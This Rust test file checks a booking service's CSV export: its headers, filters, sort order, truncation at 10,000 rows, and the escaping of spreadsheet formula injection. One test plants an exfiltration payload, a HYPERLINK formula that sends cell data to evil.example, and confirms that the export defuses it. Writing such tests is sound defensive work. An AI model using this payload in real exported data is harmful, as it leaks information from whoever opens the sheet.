//! The sheet: what it holds, what it does not do to whoever opens it, and where it ends.
use serde_json::json;

use super::{DESK, booked, noted};
use crate::booking::Shop;
use crate::support::app::Service;

/// The lines of a sheet below its heads, by the names of the heads.
fn lines(body: &[u8]) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(body);
    let heads = reader.headers().unwrap().clone();
    let line = |record: csv::StringRecord| {
        heads.iter().zip(record.iter()).map(|(h, c)| (h.to_owned(), c.to_owned())).collect()
    };
    reader.records().map(|record| line(record.unwrap())).collect()
}

#[tokio::test]
async fn a_sheet_runs_nothing_and_tells_both_times() {
    let service = Service::start().await;
    let shop = Shop::open(&service, json!({"name": "-Cut"})).await;
    let start = shop.starts(shop.tomorrow).await.remove(0);
    let mut wish = shop.wish(&start);
    wish["customer"] = json!({"display_name": "=HYPERLINK(\"http://evil.example?\"&A1)", "email": "=ana@example.com", "phone": "+1 212"});
    wish["notes"] = "\tx,\n\"y\"".into();
    let booking = shop.book(&wish).await.expect(201);
    let answer = shop.owner.get(&format!("{DESK}/export")).await;
    assert_eq!(answer.status.as_u16(), 200);
    assert_eq!((answer.header("content-type"), answer.header("x-truncated")), ("text/csv; charset=utf-8", "false"));
    assert!(answer.header("content-disposition").starts_with("attachment; filename=\"bookings-"));
    assert_eq!(answer.header("cache-control"), "private, no-store");
    let lines = lines(&answer.body);
    assert_eq!(lines.len(), 1);
    let line = |head: &str| lines[0][head].as_str();
    assert_eq!(line("booking_id"), booking["id"].as_str().unwrap());
    assert_eq!((line("start_utc"), line("time_zone")), (start.as_str(), "America/New_York"));
    assert!(line("start_local").ends_with(" 09:00"), "{}", line("start_local"));
    assert_eq!(line("customer"), "'=HYPERLINK(\"http://evil.example?\"&A1)");
    assert_eq!((line("email"), line("phone"), line("service")), ("'=ana@example.com", "'+1 212", "'-Cut"));
    assert_eq!(line("notes"), "x,\n\"y\"", "white space around a text is cut off when it is written");
    assert_eq!((line("total_cents"), line("currency"), line("attendees")), ("4500", "USD", "1"));
    let noted = noted(&service, &shop, "ADMIN_EXPORT").await;
    assert_eq!((noted.len(), &noted[0].1["rows"], &noted[0].1["cut"]), (1, &json!(1), &json!(false)));
}

#[tokio::test]
async fn it_takes_the_filters_of_the_list() {
    let service = Service::start().await;
    let shop = Shop::open(&service, json!({})).await;
    let bookings = booked(&shop, 3).await;
    shop.act(&bookings[1], "cancel", Some(&json!({"reason": "=1+1"}))).await.expect(200);
    let answer = shop.owner.get(&format!("{DESK}/export?status=canceled")).await;
    let canceled = lines(&answer.body);
    assert_eq!((canceled.len(), canceled[0]["cancel_reason"].as_str()), (1, "'=1+1"));
    let answer = shop.owner.get(&format!("{DESK}/export?sort=-start_at")).await;
    let starts: Vec<String> = lines(&answer.body).iter().map(|line| line["start_utc"].clone()).collect();
    let mut expected: Vec<String> =
        bookings.iter().map(|booking| booking["start_at"].as_str().unwrap().to_owned()).collect();
    expected.reverse();
    assert_eq!(starts, expected);
    shop.owner.get(&format!("{DESK}/export?status=gone")).await.refused(400, "TITHI_VALIDATION_ERROR");
}

#[tokio::test]
async fn it_is_cut_at_ten_thousand_lines_and_says_so() {
    let service = Service::start().await;
    let shop = Shop::open(&service, json!({})).await;
    booked(&shop, 1).await;
    // brought along from elsewhere: without allocations, which a sheet does not look at
    let sql = "INSERT INTO app.bookings (tenant_id, id, customer_id, service_id, resource_id, start_at, end_at, booking_tz, status, source, currency)
               SELECT b.tenant_id, gen_random_uuid(), b.customer_id, b.service_id, b.resource_id, b.start_at + n * interval '1 hour',
                      b.end_at + n * interval '1 hour', b.booking_tz, 'completed', 'import', b.currency
               FROM app.bookings b, generate_series(1, $2) AS n WHERE b.tenant_id = $1";
    let import = async |many: i32| {
        sqlx::query(sql).bind(shop.tenant.id.0).bind(many).execute(&mut service.platform().await).await.unwrap();
    };
    import(9_999).await;
    let whole = shop.owner.get(&format!("{DESK}/export")).await;
    assert_eq!((whole.header("x-truncated"), lines(&whole.body).len()), ("false", 10_000));
    sqlx::query("DELETE FROM app.bookings WHERE tenant_id = $1 AND source = 'import'")
        .bind(shop.tenant.id.0)
        .execute(&mut service.platform().await)
        .await
        .unwrap();
    import(10_000).await;
    let cut = shop.owner.get(&format!("{DESK}/export")).await;
    assert_eq!((cut.header("x-truncated"), lines(&cut.body).len()), ("true", 10_000));
}
